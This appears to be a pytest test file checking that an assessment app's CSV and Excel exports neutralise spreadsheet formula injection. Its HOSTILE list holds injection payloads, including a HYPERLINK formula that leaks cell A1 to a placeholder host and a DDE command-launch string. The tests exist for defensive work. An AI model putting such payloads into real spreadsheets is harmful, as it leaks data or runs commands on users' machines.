"""Formula injection: every CSV and Excel file the app writes keeps typed text as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from maturity import cells, tables
from maturity.assessment import Assessment
from maturity.spreadsheet import ANSWERS, META, assessment_from_excel, assessment_to_excel

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",  # full-width, as a Chinese input method types it
    "＋1", "－1", "＠SUM(A1)",
]
HARMLESS = ["张堃", "1+1", "工会 = 职工之家", "a-b", "😀", ""]


@pytest.mark.parametrize("text", HOSTILE)
def test_risky_texts(text):
    assert cells.risky(text)
    assert cells.csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_texts_are_unchanged(text):
    assert not cells.risky(text)
    assert cells.csv_cell(text) == text


@pytest.mark.parametrize("number", [-1, -2.5, 0, 3])
def test_numbers_stay_numbers(number):
    assert cells.csv_cell(number) == number


def _frame() -> pd.DataFrame:
    return pd.DataFrame({"名称": [*HOSTILE, *HARMLESS], "等级": list(range(-3, len(HOSTILE) + len(HARMLESS) - 3))})


def test_csv_bytes_reads_back_with_every_risky_cell_quoted():
    raw = tables.csv_bytes(_frame())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["名称", "等级"]
    names = [r[0] for r in rows[1:]]
    assert names == ["'" + h for h in HOSTILE] + HARMLESS
    assert [r[1] for r in rows[1:4]] == ["-3", "-2", "-1"]  # negative numbers are numbers, not guarded text


def test_xlsx_bytes_never_writes_a_formula():
    wb = load_workbook(io.BytesIO(tables.xlsx_bytes(_frame(), "表")))
    ws = wb["表"]
    got = [ws.cell(row=r, column=1) for r in range(2, ws.max_row + 1)]
    assert all(c.data_type != "f" for c in got)
    # the text itself is kept (a lone CR comes back as LF or as CR, by whether openpyxl reads with lxml)
    assert [(c.value or "").replace("\r", "\n") for c in got] == [x.replace("\r", "\n") for x in [*HOSTILE, *HARMLESS]]
    assert all(c.quotePrefix for c in got[: len(HOSTILE)])
    assert ws.cell(row=2, column=2).value == -3 and ws.cell(row=2, column=2).data_type == "n"


def test_the_assessment_form_keeps_hostile_org_names_and_notes_as_text(tiny):
    ids = [i.id for i in tiny.model.indicators]
    a = Assessment(
        model_id=tiny.model.id, model_version=tiny.model.version,
        organisation={"name": HOSTILE[0], "unit": HOSTILE[1]}, assessed_at="2026-11-26", language="zh",
        answers={ids[0]: 2}, notes={ids[0]: HOSTILE[7], ids[1]: "@SUM(1)"},
    )
    raw = assessment_to_excel(a, tiny.model, "zh")
    wb = load_workbook(io.BytesIO(raw))
    for ws in (wb[ANSWERS], wb[META]):
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    back = assessment_from_excel(raw, tiny.model)
    assert back.organisation["name"] == HOSTILE[0] and back.notes == a.notes  # read back exactly
